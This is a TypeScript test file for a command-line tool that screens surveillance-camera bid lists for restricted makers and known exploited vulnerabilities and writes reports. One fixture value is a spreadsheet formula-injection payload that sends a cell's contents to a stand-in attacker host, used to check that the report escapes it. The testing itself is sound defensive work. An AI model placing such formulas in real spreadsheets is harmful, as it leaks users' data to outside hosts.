import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import type { Screening } from '../../src/core/screen/types.js';

const NOW = '2026-06-01T09:00:00.000Z';
const BID_NL = join(import.meta.dirname, '..', 'fixtures', 'bids', 'bid-nl.csv');
const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
let dir: string;

async function run(args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(['--db', join(dir, 'camaudit.db'), ...args], {
    out: (t) => out.push(t), err: (t) => err.push(t), env: { CAMAUDIT_ACTOR: 'cli:test' }, now: () => NOW,
  });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

const verdicts = (s: Screening) => s.lines.map((l) => [l.line.row, l.verdict]);

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'camaudit-screen-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('camaudit screen', () => {
  it('screens a Dutch CSV bid list: table, reasons with sources, exit code 1 for a restricted maker', async () => {
    const r = await run(['--lang', 'nl', 'screen', BID_NL]);
    expect(r.code, r.err).toBe(1);
    expect(r.out).toMatch(/^2\s+HiWatch\s+HWI-B121H\s+V5\.5\.0 build 190226\s+China\s+Hikvision\s+beperkt$/m);
    expect(r.out).toMatch(/^4\s+Axis\s+P3265-LVE\s+.*Axis\s+in orde$/m);
    expect(r.out).toContain('known_exploited_vulnerability');
    expect(r.out).toContain('https://github.com/maciej-or/hikvision_next/pull/107');
    expect(r.out).toContain('6 regels: 2 beperkt, 0 gemarkeerd, 3 onvolledig, 1 in orde');
    expect(r.out).toContain('Exitcode 1');
  });

  it('prints the screening as JSON', async () => {
    const r = await run(['--json', 'screen', BID_NL]);
    expect(r.code).toBe(1);
    const s = JSON.parse(r.out) as Screening & { file: string };
    expect(s.file).toBe('bid-nl.csv');
    // Sources are listed once and referenced by id.
    expect(s.lines[0]!.reasons[0]!.sources.every((id) => typeof id === 'string')).toBe(true);
    expect(verdicts(s)).toEqual([[2, 'restricted'], [3, 'restricted'], [4, 'clear'], [5, 'incomplete'], [6, 'incomplete'], [7, 'incomplete']]);
    expect(s.lines[1]!.reasons.map((x) => x.kind)).toContain('known_exploited_vulnerability');
    expect(s.lines[3]!.reasons.map((x) => x.kind)).toEqual(['missing_model', 'missing_firmware']);
    expect(s.lines[5]!.line.brand).toBe(PAYLOAD);
  });

  it('reads an English XLSX list and exits 0 when nothing is restricted', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Offer');
    ws.addRow(['Brand', 'Model number', 'Components', 'Firmware version', 'Country of origin']);
    ws.addRow(['Axis', 'P3265-LVE', 'camera', '10.12.114', 'Sweden']);
    ws.addRow(['LTS', 'CMIP3C42W-28', 'camera', 'V5.6.3', '']);
    const file = join(dir, 'offer.xlsx');
    await wb.xlsx.writeFile(file);
    const r = await run(['--json', 'screen', file]);
    expect(r.code, r.err).toBe(0);
    const s = JSON.parse(r.out) as Screening;
    expect(verdicts(s)).toEqual([[2, 'clear'], [3, 'incomplete']]);
    expect(s.lines[1]!.reasons[0]!.kind).toBe('manufacturer_declaration');
  });

  it('writes a DOCX report in English that re-opens with the verdicts, sources and the formula as escaped text', async () => {
    const out = join(dir, 'screening.docx');
    const r = await run(['--lang', 'en', 'screen', BID_NL, '--docx', out]);
    expect(r.code).toBe(1);
    expect(r.err).toContain(`Screening report written to ${out}`);
    const zip = await JSZip.loadAsync(readFileSync(out));
    const xml = await zip.file('word/document.xml')!.async('string');
    for (const text of ['restricted', 'incomplete', 'clear', 'Hikvision', 'CVE-2021-33044', 'https://github.com/maciej-or/hikvision_next/pull/107', "manufacturer&apos;s declaration"]) {
      expect(xml.includes(text) || xml.includes(text.replace('&apos;', "'")), text).toBe(true);
    }
    expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;klik&quot;)');
    expect(xml).not.toContain('"http://evil.example');
  });

  it('reads a Merk/Type list, says which columns it ignored and shows the warnings and origin notes', async () => {
    const file = join(dir, 'merk-type.csv');
    writeFileSync(file, 'Merk/Type;Firmware;Land van oorsprong;Aantal\nHiWatch HWI-B121H;V5.5.0;China;4\nHoneywell HC30WB5R1;1.0.2;;1\nUniview IPC2124LB-SF28KM-G;GIPC-B6202.7.10.220412;China;2\n');
    const r = await run(['--lang', 'en', 'screen', file]);
    expect(r.code, r.err).toBe(1);
    expect(r.err).toContain('columns not read: Aantal');
    expect(r.out).toMatch(/^2\s+HiWatch\s+HWI-B121H\s+V5\.5\.0\s+China\s+Hikvision\s+restricted$/m);
    expect(r.out).toMatch(/\[incomplete\] manufacturer_declaration: The knowledge base warns: "Honeywell: some products are reported to be made by hikvision/);
    expect(r.out).toContain('Note: Country of origin "China": the policy does not restrict this maker');
  });

  it('refuses a list longer than one screening takes, naming its length', async () => {
    const file = join(dir, 'long.csv');
    writeFileSync(file, `Merk;Type\n${'Axis;P3265-LVE\n'.repeat(2001)}`);
    const r = await run(['screen', file]);
    expect(r.code).toBe(4);
    expect(r.err).toContain('2001 lines, more than the 2000 one screening takes');
  });

  it('refuses a table that is not an equipment list', async () => {
    const file = join(dir, 'sites.csv');
    writeFileSync(file, 'Locatie;Adres\nStadhuis;Markt 1\n');
    const r = await run(['screen', file]);
    expect(r.code).toBe(4);
    expect(r.err).toContain('no brand (merk), manufacturer (fabrikant) or model (type) column');
  });
});
